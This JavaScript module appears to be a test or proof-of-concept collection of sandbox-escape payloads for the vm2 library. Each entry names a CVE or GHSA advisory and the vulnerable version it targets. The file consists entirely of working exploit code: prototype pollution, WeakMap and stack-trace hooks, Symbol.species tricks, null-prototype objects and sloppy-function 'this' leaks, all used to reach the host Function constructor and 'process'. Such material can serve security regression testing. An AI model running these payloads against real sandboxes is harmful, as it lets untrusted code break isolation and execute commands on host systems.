// Walks along constructors and prototypes to what makes functions of texts in the host.
'use strict';

module.exports = [
  {
    name: 'has-trap-of-object-prototype', advisory: 'before 3.6.11: a handler without a prototype of its own', kind: 'VM', against: '3.6.4',
    code: ({ take }) => `let found;
      Object.prototype.has = (target) => { found = target; return false; };
      'any' in Buffer.from;
      delete Object.prototype.has;
      ${take('found.constructor')}`,
  },
  {
    name: 'set-of-weak-maps', advisory: 'CVE-2022-25893', kind: 'VM', against: '3.9.9',
    code: ({ take }) => `const { set } = WeakMap.prototype;
      let map;
      WeakMap.prototype.set = function (key, value) { map = this; return set.call(this, key, value); };
      Error.prepareStackTrace = () => {};
      const mine = (e, all) => { ${take('all[0].constructor.constructor')}; };
      set.call(map, mine, mine);
      Error.prepareStackTrace = mine;
      (async () => { null.anything; })();
      1`,
  },
  {
    name: 'entries-of-descriptors', advisory: 'before 3.10.1: a descriptor keeps what is read out of it by the host', kind: 'VM', against: '3.9.19',
    code: ({ use, climb }) => `${climb}
      const apply = Buffer.apply, hostFunctionPrototype = up(apply);
      const entry = HostObject.entries(HostObject.getOwnPropertyDescriptor(hostFunctionPrototype, 'constructor')).find((it) => it[0] === 'value');
      entry.shift();
      entry.push([undefined, ['return process']]);
      ${use('apply.apply(apply, entry)()')}`,
  },
  {
    name: 'array-species-of-itself', advisory: 'GHSA-grj5-jjm8-h35p', kind: 'VM', against: '3.10.5',
    code: ({ use, climb }) => `${climb}
      // A method of a list of the host puts what it makes into another list of the host, and nobody looks at it on its way.
      const into = (list, other, work) => {
        const species = function () { return other; };
        species[Symbol.species] = species;
        HostObject.assign(list, { constructor: species });
        list.constructor = species;
        work();
        list.constructor = undefined;
      };
      const [first, second, third] = [HostObject.entries({}), HostObject.entries({}), HostObject.entries({})];
      first[0] = up(Buffer.apply);
      into(first, first, () => first.map(HostObject.getOwnPropertyDescriptors));
      into(first, first, () => first.map(HostObject.values));
      into(first, second, () => first.flat());
      into(second, second, () => second.map(HostObject.values));
      into(second, third, () => second.flat());
      third.splice(0, 16);
      third.length = 1;
      third.push([undefined, ['return process']]);
      ${use('Buffer.apply.apply(Buffer.apply, third)()')}`,
  },
  {
    name: 'null-prototype-thrown', advisory: 'GHSA-9vg3-4rfj-wgcm', kind: 'VM', against: '3.11.0',
    code: ({ take }) => `const carrier = { __proto__: null };
      try { throw carrier; } catch (other) { other.made = Buffer.prototype.inspect; }
      ${take('carrier.made.constructor')}`,
  },
  {
    name: 'null-prototype-resolved', advisory: 'GHSA-9vg3-4rfj-wgcm', kind: 'VM', against: '3.11.0',
    code: ({ take }) => `const carrier = { __proto__: null };
      Promise.resolve(carrier).then((other) => { other.made = Buffer.prototype.inspect; return ${take('carrier.made.constructor')}; })`,
  },
  {
    name: 'setter-of-an-index', advisory: 'GHSA-9qj6-qjgg-37qq', kind: 'VM', against: '3.11.0',
    code: ({ take }) => `const list = [];
      let result;
      Object.defineProperty(Array.prototype, 0, { configurable: true, set(saved) {
        delete Array.prototype[0];
        list.made = Buffer.prototype.inspect;
        result = ${take('saved.arr.made.constructor.constructor')};
      } });
      new Buffer(list);
      result`,
  },
  {
    name: 'severed-prototype', advisory: 'GHSA-v6mx-mf47-r5wg', kind: 'VM', against: '3.11.2',
    code: ({ take }) => `const read = Buffer.call.call({}.__lookupGetter__, Buffer, '__proto__'), write = Buffer.call.call({}.__lookupSetter__, Buffer, '__proto__');
      (async () => {
        try { await WebAssembly.compileStreaming(); } catch (e) { write.call(read.call(e), null); }
        try { await WebAssembly.compileStreaming(); } catch (e) { return ${take('e.constructor.constructor')}; }
      })()`,
  },
  {
    name: 'this-of-a-sloppy-function', advisory: 'GHSA-j89j-5m6r-cr2q', kind: 'VM', against: '3.11.2',
    options: () => ({ sandbox: { greet: Function('return this') } }),
    code: ({ use }) => `const it = greet.call(undefined) ?? greet(); ${use('it.process')}`,
  },
  {
    name: 'global-kept-by-a-sloppy-function', advisory: 'GHSA-j89j-5m6r-cr2q', kind: 'VM', against: '3.11.2',
    options: () => ({ sandbox: { keep: Function('it', 'it.kept = this; return it') } }),
    code: ({ use }) => `const it = {}; keep(it); ${use('(it.kept ?? keep({}).kept).process')}`,
  },
];
